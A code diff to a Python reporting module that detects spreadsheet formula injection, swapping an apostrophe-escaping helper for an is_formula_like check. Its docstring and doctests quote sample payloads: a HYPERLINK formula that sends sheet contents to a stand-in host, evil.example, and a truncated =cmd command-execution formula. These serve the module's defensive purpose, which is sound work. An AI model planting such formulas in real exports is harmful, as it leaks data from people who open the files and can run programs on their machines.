@@ -3,35 +3,25 @@
 A cell whose text begins with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which
 spreadsheet programs skip before them) is run as a formula when the file is opened: a survey
 answer ``=HYPERLINK("http://evil.example?"&A1, "click")`` would leak the sheet, ``=cmd|...``
-would run a program. OWASP's "CSV Injection" page gives the rule applied here: such text is
-written with a leading apostrophe, which makes Excel and LibreOffice show it as plain text.
+would run a program (OWASP, "CSV Injection"). ``report/xlsx.py`` writes such text as a string
+cell with Excel's quote prefix, so it is shown exactly as typed and never evaluated.
 
 It lives in ``report`` (a stage may not import ``io``, tests/test_architecture.py) in a file of
-its own, so whoever rewrites ``report/xlsx.py`` keeps calling it on every text cell.
+its own, so that every writer of spreadsheet cells applies the one rule.
 """
 
 from __future__ import annotations
-
-from typing import overload
 
 #: First characters that make a spreadsheet program treat a cell as a formula (OWASP, CSV Injection).
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 
 
-@overload
-def xlsx_safe(text: str) -> str: ...
-@overload
-def xlsx_safe(text: object) -> object: ...
-def xlsx_safe(text: object) -> object:
-    r"""Return ``text`` so that a spreadsheet shows it as text, never runs it; other values unchanged.
+def is_formula_like(value: str) -> bool:
+    """Return True if a spreadsheet would read ``value`` as a formula.
 
     Examples
     --------
-    >>> xlsx_safe('=HYPERLINK("http://evil.example","x")')
-    '\'=HYPERLINK("http://evil.example","x")'
-    >>> xlsx_safe("GPU-hours"), xlsx_safe(-3.5)
-    ('GPU-hours', -3.5)
+    >>> is_formula_like('=HYPERLINK("http://x")'), is_formula_like("서울대학교"), is_formula_like("\\t=1")
+    (True, False, True)
     """
-    if isinstance(text, str) and text.startswith(FORMULA_STARTS):
-        return "'" + text
-    return text
+    return value.startswith(FORMULA_STARTS)
